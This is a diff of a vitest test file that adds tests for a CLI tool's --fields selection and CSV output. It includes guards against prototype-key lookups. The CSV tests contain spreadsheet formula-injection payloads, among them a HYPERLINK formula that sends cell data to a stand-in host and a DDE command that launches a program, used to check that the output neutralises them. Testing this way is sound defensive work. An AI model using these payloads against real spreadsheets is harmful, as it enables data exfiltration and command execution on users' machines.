@@ -1,5 +1,8 @@
+import { parse } from "csv-parse/sync";
 import stringWidth from "string-width";
 import { describe, expect, test } from "vitest";
+import { Fields } from "../../src/output/fields.js";
+import { formatCsv } from "../../src/output/format-csv.js";
 import { formatJson } from "../../src/output/format-json.js";
 import { formatFields, formatRows } from "../../src/output/format-table.js";
 import { startServices } from "../helpers/command.js";
@@ -43,6 +46,89 @@ describe("names of the records, people and databases in a result", () => {
     const { output } = await workbelt.run([...entries, "--format", "json"]);
     expect(output).toContain("parent_record_id");
     expect(output).not.toContain("record_name");
+  });
+});
+
+describe("--fields", () => {
+  const list = ["crm", "list-tasks", "--limit", "2"];
+
+  test("keeps the chosen keys of JSON, and what the list has beside its items", async () => {
+    const { workbelt } = await startServices();
+    const fields = ["--fields", "content_plaintext,id.task_id"];
+    const { items, ...page } = (await workbelt.json(...list, ...fields)) as { items: object[] };
+    expect(items.map((item) => Object.keys(item))).toEqual([
+      ["content_plaintext", "id"],
+      ["content_plaintext", "id"],
+    ]);
+    expect(items[0]).toMatchObject({ id: { task_id: expect.any(String) as unknown } });
+    expect(page).toEqual({ next_offset: 2 });
+  });
+
+  test("makes the columns of CSV, which says on the standard error that the list continues", async () => {
+    const { workbelt } = await startServices();
+    const csv = ["--format", "csv", "--fields", "content,assignees.actor_name,stge"];
+    const { errors, output } = await workbelt.run([...list, ...csv]);
+    const rows = parse(output, { columns: true, record_delimiter: "\r\n" });
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({ "assignees.actor_name": "Lena Hoffmann", stge: "" });
+    expect(errors).toMatch(/^The list continues: --all returns all of it\.\n/);
+    expect(errors).toMatch(/^Nothing has the field "stge"\.\nThere are: task_id, content, /m);
+  });
+
+  test.each([
+    ["a.b", { a: [{ b: 1 }, { b: 2 }], c: 3 }, { a: [{ b: 1 }, { b: 2 }] }, "[1,2]"],
+    ["a.b.c", { a: { "b.c": "x", b: { c: "y" } } }, { a: { "b.c": "x" } }, "x"],
+    ["a.b", { a: null }, { a: null }, ""],
+    ["a", "text", null, ""],
+    ["__proto__", {}, JSON.parse('{"__proto__":null}') as object, ""],
+    ["constructor", {}, { constructor: null }, ""],
+  ])("%s of %j is %j, and in a table %j", (name, item, selected, cell) => {
+    const fields = new Fields([name]);
+    expect(JSON.stringify(fields.select(item))).toBe(JSON.stringify(selected));
+    expect([...fields.toRow(item)]).toEqual([[name, cell]]);
+  });
+
+  test("a field that nothing has is answered with the nearest one", () => {
+    const fields = new Fields(["titel", "name"]);
+    fields.select({ title: "x", name: "y" });
+    expect(fields.describeMissing()).toBe(
+      'Nothing has the field "titel". Did you mean title?\nThere are: title, name.',
+    );
+    expect(new Fields(["titel"]).describeMissing()).toBeUndefined();
+  });
+});
+
+describe("CSV", () => {
+  test("is read back as it was, and ends each line with both characters", () => {
+    const items = [
+      { a: 'say "hi", twice\nor not', b: ["x", "y"] },
+      { a: "", c: { d: 1 } },
+    ];
+    const lines = [...formatCsv(items)].map((line) => `${line}\n`).join("");
+    expect(lines.startsWith("a,b,c.d\r\n")).toBe(true);
+    expect(parse(lines)).toEqual([
+      ["a", "b", "c.d"],
+      ['say "hi", twice\nor not', "x, y", ""],
+      ["", "", "1"],
+    ]);
+  });
+
+  test.each([
+    ['=HYPERLINK("http://x.example/?"&A1)', true],
+    ["@SUM(A1)", true],
+    ["-cmd|' /C calc'!A0", true],
+    ["\t=1+A1", true],
+    ["\u200B=1+A1", true],
+    ["＝A1", true],
+    ["+44 20 7946 0018", false],
+    ["-12.50", false],
+    ["-1e-7", false],
+    ["a=b", false],
+    ["--", false],
+  ])("a spreadsheet computes nothing of %j", (text, isInert) => {
+    const [, line = ""] = [...formatCsv([{ text }])];
+    const [[cell = ""] = []] = parse(line.trimEnd(), { relax_quotes: true });
+    expect([cell.startsWith("'"), cell.endsWith(text.slice(-2))]).toEqual([isInert, true]);
   });
 });
 
